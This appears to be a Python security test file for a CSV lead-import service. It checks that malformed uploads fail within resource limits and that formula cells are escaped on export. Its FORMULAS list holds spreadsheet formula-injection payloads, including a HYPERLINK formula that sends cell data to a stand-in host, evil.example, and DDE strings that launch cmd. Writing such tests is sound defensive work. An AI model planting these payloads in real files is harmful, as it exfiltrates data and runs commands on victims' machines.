"""Hostile inputs as uploaded tables (rows 32, 33 of the table): files that are none, cells that spreadsheets run."""

import csv
import io
import os
import secrets
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from app.common.work import Doors
from app.imports.domain.dialect import FileProblem
from app.imports.domain.failing import told, why
from app.leads.domain.sheet import PORTUGUESE
from tests.api.hostile.scene import Row, Rows, Scene
from tests.api.hostile.target import assert_no_leak
from tests.factories.accounts import Person, sign_up
from tests.factories.csv_imports import FILE_STATE, START, UNDER_WAY, mapped
from tests.factories.files import upload
from tests.fixtures.databases import own_database
from tests.fixtures.processes import eventually

ROWS = Rows()
MB = 2**20
HEAD = b"Nome;E-mail\r\n"
GOOD = b"Bia;bia@example.com\r\n"
FILES: dict[str, tuple[bytes, FileProblem, int | None]] = {
    "commas": (b"," * 5 * MB, FileProblem.EMPTY, None),
    "lines of commas": (b",,,,\r\n" * (5 * MB // 6), FileProblem.EMPTY, None),
    "newlines": (b"\n" * 5 * MB, FileProblem.EMPTY, None),
    "returns": (b"\r\n" * (5 * MB // 2), FileProblem.EMPTY, None),
    "one open quote": (HEAD + GOOD + b'"' + GOOD * (5 * MB // len(GOOD)), FileProblem.OPEN_QUOTE, 2),
    "one open quote, one line": (HEAD + GOOD + b'"' + b"x" * 5 * MB, FileProblem.LINE_TOO_LONG, 2),
    "header only": (HEAD, FileProblem.HEADER_ONLY, None),
    "header and newlines": (HEAD + b"\n" * 5 * MB, FileProblem.HEADER_ONLY, None),
}
"""5 MB each, why it is no table, and the row it says so of."""
MAX_GROWTH_KIB = 50 * 1024
MAX_CPU_S = 1.0
"""The table's."""
LEFT = text(
    """
    SELECT (SELECT count(*) FROM lead WHERE workspace_id = :workspace_id)
        + (SELECT count(*) FROM import_row WHERE workspace_id = :workspace_id)
        + (SELECT count(*) FROM import_job WHERE workspace_id = :workspace_id AND preview IS NOT NULL)
        + (SELECT count(*) FROM file WHERE workspace_id = :workspace_id)
    """
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\t+cmd",
    "\uff1d1+1",
)
PLAIN = "Bia"
TRIGGERS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
FIELDS = {"Nome": "NAME", "E-mail": "EMAIL", "Empresa": "COMPANY", "Cargo": "TITLE", "Nota": "NOTE"}
EXTRA = "=extra"
"""A column that is a formula itself."""
LEADS = """{ leads(first: 50) { edges { node { name email company title metadata
    timeline(first: 10) { edges { node { type content } } } } } } }"""


# ── 32: files that are no tables ──────────────────────────────────────────────────────────────────────────────────────
@ROWS(32, "a CSV of commas, of newlines, of one open quote, of a header")
async def no_tables(scene: Scene) -> None:
    """By a worker that does nobody else's work."""
    async with own_database(scene.settings) as own:
        there = replace(scene, victim=await sign_up(own.http))
        for what, (content, problem, row) in FILES.items():
            before, began = peak_kib(own.worker.pid), cpu_s(own.worker.pid)
            state = await imported(there, content)
            growth, spent = peak_kib(own.worker.pid, again=False) - before, cpu_s(own.worker.pid) - began
            print(f"32: {what}: {spent:.2f} s of CPU, {growth / 1024:.1f} MB more")
            assert (state["status"], state["failure"]) == ("FAILED", told(why(problem, row), "pt-BR")), what
            assert (state["processedRows"], outcomes(state), state["rowErrors"]) == (0, {}, []), what
            assert growth < MAX_GROWTH_KIB, what
            assert spent < MAX_CPU_S, what
        assert await left(own.doors, there.victim) == 0
        scene.answers += there.answers


def peak_kib(pid: int, *, again: bool = True) -> int:
    """The most memory a process has had; `again`: since now."""
    status = Path(f"/proc/{pid}")
    if again:
        (status / "clear_refs").write_text("5")
    lines = (status / "status").read_text().splitlines()
    return int(next(line.split()[1] for line in lines if line.startswith("VmHWM:")))


def cpu_s(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


async def left(doors: Doors, person: Person) -> int:
    """Rows that hold something of a file."""
    async with doors.open_work(person.workspace_id) as work:
        return int((await work.execute(LEFT, {"workspace_id": person.workspace_id})).scalar_one())


async def imported(scene: Scene, content: bytes, **fields: Any) -> Any:
    """The import of a file, once it rests."""
    sent = scene.seen(await upload(scene.victim, content, media_type="text/csv", name="leads.csv"))
    assert sent.status_code == 201, sent.text
    given = {"uploadToken": sent.json()["uploadToken"], "idempotencyKey": secrets.token_hex(8), **fields}
    payload = await scene.ask(START, scene.victim.token, input=given)
    assert payload["errors"] == []
    id = payload["leadImport"]["id"]

    async def rested() -> Any:
        state = await scene.ask(FILE_STATE, scene.victim.token, id=id)
        return {**state, "id": id} if state["status"] not in UNDER_WAY else None

    return await eventually(rested, timeout_s=60, what="the end of the import")


def outcomes(state: Any) -> dict[str, int]:
    return {one["outcome"]: one["count"] for one in state["counts"] if one["count"]}


# ── 33: cells that are formulas ───────────────────────────────────────────────────────────────────────────────────────
@ROWS(33, "cells that a spreadsheet runs, imported and exported")
async def formulas(scene: Scene) -> None:
    cells = (*FORMULAS, PLAIN)
    good = [[cell, f"p{n}@example.com", cell, cell, cell, cell] for n, cell in enumerate(cells)]
    bad = [[cell, f"p{n}@", cell, cell, cell, cell] for n, cell in enumerate(cells)]
    content = sheet([*FIELDS, EXTRA], *good, *bad)
    state = await imported(scene, content, mapping=mapped({**FIELDS, EXTRA: "METADATA"}))
    assert state["status"] == "COMPLETED_WITH_ERRORS"
    assert outcomes(state) == {"CREATED": len(good), "REJECTED": len(bad)}
    assert await leads(scene) == {row[1]: as_known(row[0]) for row in good}
    exported = await fetched(scene, "/export/leads.csv", ",")
    columns = [PORTUGUESE.index(name) for name in ("nome", "empresa", "cargo")]
    found = {line[PORTUGUESE.index("email")]: [line[at] for at in columns] for line in exported[1:]}
    assert found == {row[1]: [as_guarded(row[0].strip())] * 3 for row in good}
    report = await fetched(scene, f"/imports/{state['id']}/errors.csv", ";")
    assert report[0][: len(bad[0])] == [*FIELDS, f"'{EXTRA}"]
    assert [line[: len(bad[0])] for line in report[1:]] == [list(map(as_guarded, row)) for row in bad]


def sheet(*rows: list[str]) -> bytes:
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=";").writerows(rows)
    return written.getvalue().encode()


def as_known(cell: str) -> list[object]:
    """Unchanged; around names and notes is no space."""
    short = cell.strip()
    return [short, short, short, {EXTRA: cell}, [short]]


def as_guarded(cell: str) -> str:
    """A tab may begin a cell too."""
    return "'" + cell.replace("\t", "\t'") if cell.startswith(TRIGGERS) else cell


async def leads(scene: Scene) -> dict[str, list[object]]:
    found = {}
    for edge in (await scene.ask(LEADS, scene.victim.token))["edges"]:
        lead = edge["node"]
        entries = [entry["node"] for entry in lead["timeline"]["edges"]]
        notes = [entry["content"] for entry in entries if entry["type"] == "NOTE"]
        found[lead["email"]] = [lead["name"], lead["company"], lead["title"], lead["metadata"], notes]
    return found


async def fetched(scene: Scene, path: str, delimiter: str) -> list[list[str]]:
    """No cell of it is a formula."""
    bearer = {"Authorization": f"Bearer {scene.victim.token}"}
    answer = await scene.victim.http.get(path, headers=bearer)
    assert answer.status_code == 200, answer.text
    assert_no_leak(answer.text, scene.eve)
    given = answer.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(given, newline=""), delimiter=delimiter, strict=True))
    assert [cell for line in lines for cell in line if cell.startswith(TRIGGERS)] == []
    return lines


@pytest.mark.parametrize("row", ROWS, ids=str)
async def test_an_uploaded_table_is_read_and_never_run(scene: Scene, row: Row) -> None:
    await ROWS.play(row, scene)
